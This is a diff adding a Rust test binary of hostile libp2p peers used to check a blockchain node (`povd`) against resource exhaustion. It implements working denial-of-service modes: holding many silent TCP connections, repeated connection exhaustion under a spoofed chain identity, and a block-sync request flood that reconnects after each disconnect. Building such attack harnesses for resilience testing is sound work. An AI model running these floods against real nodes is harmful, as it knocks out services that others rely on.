@@ -1,0 +1,284 @@
+//! `pov-attack`: small hostile peers for the attack tests, each a mode of this one binary
+//! (run inside an attacker's network namespace by the tests; never point it at a host you do
+//! not own). It is its own libp2p client, not a modified `povd`: it speaks exactly as much of
+//! the protocol as its attack needs, and lies where the attack lies.
+//!
+//! Modes (all stop by themselves after `SECS`), each printing one line of counts at the end:
+//! - `tcp-hold ADDR COUNT SECS`: opens COUNT plain TCP connections to ADDR (ip:port), sends
+//!   nothing, holds them; prints how many opened and how many the target still kept open.
+//! - `libp2p-hold MULTIADDR GENESIS_HEX COUNT SECS`: one libp2p identity that passes the
+//!   chain check (it echoes the genesis in identify) dials the target COUNT times; prints
+//!   how many connections were established and how many were still open at the end.
+//! - `sync-flood MULTIADDR GENESIS_HEX INFLIGHT SECS`: one identity sends block-sync requests
+//!   for the widest range as fast as the target answers, INFLIGHT at a time; prints requests
+//!   sent, answered and failed.
+
+use std::collections::HashSet;
+use std::io::Read;
+use std::net::{SocketAddr, TcpStream};
+use std::time::{Duration, Instant};
+
+use futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, StreamExt};
+use libp2p::swarm::{dial_opts::DialOpts, NetworkBehaviour, SwarmEvent};
+use libp2p::{identify, identity, noise, request_response, tcp, yamux, Multiaddr, StreamProtocol};
+
+type Result<T> = std::result::Result<T, String>;
+
+fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let outcome = match args.first().map(String::as_str) {
+        Some("tcp-hold") => tcp_hold(&args[1..]),
+        Some("libp2p-hold") => run_async(libp2p_hold(&args[1..])),
+        Some("sync-flood") => run_async(sync_flood(&args[1..])),
+        _ => {
+            Err("usage: pov-attack tcp-hold|libp2p-hold|sync-flood ARGS... (see the source)".into())
+        }
+    };
+    if let Err(e) = outcome {
+        eprintln!("pov-attack: {e}");
+        std::process::exit(2);
+    }
+}
+
+fn arg<T: std::str::FromStr>(args: &[String], i: usize, what: &str) -> Result<T> {
+    args.get(i)
+        .ok_or_else(|| format!("missing {what}"))?
+        .parse()
+        .map_err(|_| format!("bad {what}: {:?}", args[i]))
+}
+
+fn run_async(future: impl std::future::Future<Output = Result<()>>) -> Result<()> {
+    tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .map_err(|e| format!("runtime: {e}"))?
+        .block_on(future)
+}
+
+/// Plain TCP connections that never say a word.
+fn tcp_hold(args: &[String]) -> Result<()> {
+    let addr: SocketAddr = arg(args, 0, "ADDR")?;
+    let count: usize = arg(args, 1, "COUNT")?;
+    let secs: u64 = arg(args, 2, "SECS")?;
+    let mut streams = Vec::with_capacity(count);
+    let mut failed = 0usize;
+    for _ in 0..count {
+        match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
+            Ok(stream) => streams.push(stream),
+            Err(_) => failed += 1,
+        }
+    }
+    let opened = streams.len();
+    std::thread::sleep(Duration::from_secs(secs));
+    // Still open: a read would block (the target neither closed nor reset it).
+    let mut open = 0usize;
+    for stream in &mut streams {
+        let _ = stream.set_nonblocking(true);
+        let mut byte = [0u8; 1];
+        match stream.read(&mut byte) {
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => open += 1,
+            _ => {}
+        }
+    }
+    println!("tcp-hold: opened {opened}, failed {failed}, still open {open}");
+    Ok(())
+}
+
+/// The block-sync wire codec: a 4-byte big-endian length, then the bytes.
+#[derive(Debug, Clone, Default)]
+struct Frames;
+
+async fn read_frame<T: AsyncRead + Unpin + Send>(io: &mut T) -> std::io::Result<Vec<u8>> {
+    let mut prefix = [0u8; 4];
+    io.read_exact(&mut prefix).await?;
+    let len = u32::from_be_bytes(prefix) as u64;
+    let mut buf = Vec::new();
+    io.take(len.min(32 << 20)).read_to_end(&mut buf).await?;
+    Ok(buf)
+}
+
+async fn write_frame<T: AsyncWrite + Unpin + Send>(io: &mut T, data: &[u8]) -> std::io::Result<()> {
+    let len = u32::try_from(data.len()).unwrap_or(u32::MAX);
+    io.write_all(&len.to_be_bytes()).await?;
+    io.write_all(data).await?;
+    io.flush().await
+}
+
+impl request_response::Codec for Frames {
+    type Protocol = StreamProtocol;
+    type Request = Vec<u8>;
+    type Response = Vec<u8>;
+
+    async fn read_request<T: AsyncRead + Unpin + Send>(
+        &mut self,
+        _: &StreamProtocol,
+        io: &mut T,
+    ) -> std::io::Result<Vec<u8>> {
+        read_frame(io).await
+    }
+    async fn read_response<T: AsyncRead + Unpin + Send>(
+        &mut self,
+        _: &StreamProtocol,
+        io: &mut T,
+    ) -> std::io::Result<Vec<u8>> {
+        read_frame(io).await
+    }
+    async fn write_request<T: AsyncWrite + Unpin + Send>(
+        &mut self,
+        _: &StreamProtocol,
+        io: &mut T,
+        req: Vec<u8>,
+    ) -> std::io::Result<()> {
+        write_frame(io, &req).await
+    }
+    async fn write_response<T: AsyncWrite + Unpin + Send>(
+        &mut self,
+        _: &StreamProtocol,
+        io: &mut T,
+        res: Vec<u8>,
+    ) -> std::io::Result<()> {
+        write_frame(io, &res).await
+    }
+}
+
+/// What the attacker speaks: identify (to pass the chain check) and block sync.
+#[derive(NetworkBehaviour)]
+struct Attacker {
+    identify: identify::Behaviour,
+    sync: request_response::Behaviour<Frames>,
+}
+
+/// A swarm that claims to run the chain of `genesis_hex`.
+fn swarm(genesis_hex: &str) -> Result<libp2p::Swarm<Attacker>> {
+    if genesis_hex.len() != 64 {
+        return Err("GENESIS_HEX must be 64 hex digits".into());
+    }
+    let key = identity::Keypair::generate_ed25519();
+    let protocol = StreamProtocol::try_from_owned(format!("/pov/{}/sync/1", &genesis_hex[..16]))
+        .map_err(|e| format!("protocol: {e}"))?;
+    let behaviour = Attacker {
+        identify: identify::Behaviour::new(identify::Config::new(
+            format!("/pov/1/{genesis_hex}"),
+            key.public(),
+        )),
+        sync: request_response::Behaviour::with_codec(
+            Frames,
+            std::iter::once((protocol, request_response::ProtocolSupport::Outbound)),
+            request_response::Config::default().with_request_timeout(Duration::from_secs(30)),
+        ),
+    };
+    Ok(libp2p::SwarmBuilder::with_existing_identity(key)
+        .with_tokio()
+        .with_tcp(
+            tcp::Config::default(),
+            noise::Config::new,
+            yamux::Config::default,
+        )
+        .map_err(|e| format!("transport: {e}"))?
+        .with_behaviour(|_| behaviour)
+        .map_err(|e| format!("behaviour: {e}"))?
+        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(3600)))
+        .build())
+}
+
+/// One identity, COUNT connections to the same target.
+async fn libp2p_hold(args: &[String]) -> Result<()> {
+    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
+    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
+    let count: usize = arg(args, 2, "COUNT")?;
+    let secs: u64 = arg(args, 3, "SECS")?;
+    let mut swarm = swarm(&genesis)?;
+    for _ in 0..count {
+        let opts = DialOpts::unknown_peer_id().address(target.clone()).build();
+        let _ = swarm.dial(opts);
+    }
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
+    let mut open = HashSet::new();
+    let mut established = 0usize;
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => break,
+            event = swarm.select_next_some() => match event {
+                SwarmEvent::ConnectionEstablished { connection_id, .. } => {
+                    established += 1;
+                    open.insert(connection_id);
+                }
+                SwarmEvent::ConnectionClosed { connection_id, .. } => {
+                    open.remove(&connection_id);
+                }
+                _ => {}
+            }
+        }
+    }
+    println!(
+        "libp2p-hold: established {established}, still open {}",
+        open.len()
+    );
+    Ok(())
+}
+
+/// Block-sync requests as fast as they are answered.
+async fn sync_flood(args: &[String]) -> Result<()> {
+    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
+    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
+    let inflight: usize = arg(args, 2, "INFLIGHT")?;
+    let secs: u64 = arg(args, 3, "SECS")?;
+    let mut swarm = swarm(&genesis)?;
+    swarm
+        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
+        .map_err(|e| format!("dial: {e}"))?;
+    // postcard of SyncRequest::Blocks { from: 1, to: u64::MAX }: variant 1, two varints.
+    let mut request = vec![1u8, 1];
+    request.extend_from_slice(&[0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01]);
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
+    let started = Instant::now();
+    let mut peer = None;
+    let (mut sent, mut answered, mut failed, mut outstanding) = (0u64, 0u64, 0u64, 0usize);
+    let mut disconnects = 0u64;
+    loop {
+        if let Some(peer) = peer {
+            while outstanding < inflight {
+                swarm
+                    .behaviour_mut()
+                    .sync
+                    .send_request(&peer, request.clone());
+                sent += 1;
+                outstanding += 1;
+            }
+        }
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => break,
+            event = swarm.select_next_some() => match event {
+                SwarmEvent::ConnectionEstablished { peer_id, .. } => peer = Some(peer_id),
+                SwarmEvent::ConnectionClosed { num_established: 0, .. } => {
+                    // Hung up on: come back, as a real attacker would.
+                    disconnects += 1;
+                    peer = None;
+                    outstanding = 0;
+                    let _ = swarm.dial(DialOpts::unknown_peer_id().address(target.clone()).build());
+                }
+                SwarmEvent::OutgoingConnectionError { .. } => {
+                    tokio::time::sleep(Duration::from_millis(200)).await;
+                    let _ = swarm.dial(DialOpts::unknown_peer_id().address(target.clone()).build());
+                }
+                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
+                    message: request_response::Message::Response { .. }, ..
+                })) => {
+                    answered += 1;
+                    outstanding = outstanding.saturating_sub(1);
+                }
+                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::OutboundFailure { .. })) => {
+                    failed += 1;
+                    outstanding = outstanding.saturating_sub(1);
+                }
+                _ => {}
+            }
+        }
+    }
+    println!(
+        "sync-flood: sent {sent}, answered {answered}, failed {failed}, disconnected \
+         {disconnects} times in {:.0} s",
+        started.elapsed().as_secs_f64()
+    );
+    Ok(())
+}
